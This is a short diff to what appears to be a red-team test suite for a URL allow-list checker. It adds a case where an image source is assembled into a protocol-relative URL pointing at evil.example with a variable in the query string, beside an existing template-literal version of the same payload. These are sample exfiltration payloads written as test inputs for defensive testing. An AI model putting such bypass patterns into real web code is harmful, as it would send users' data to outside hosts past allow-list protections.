@@ -218,6 +218,11 @@ describe('redteam 5: five ways around the allow-list, each a finding', () => {
       [3, 'script', completes('src')],
     ],
     [
+      'a host put together after a bare slash',
+      typed(["return <img src={'/' + ['', 'evil.example', 'p?d=' + v].join('/')} />"]),
+      [3, 'unchecked', 'a URL whose host the code computes (`src`)'],
+    ],
+    [
       'a protocol-relative template',
       typed(['return <img src={`//evil.example/p?d=${v}`} />']),
       [3, 'script', completes('src')],
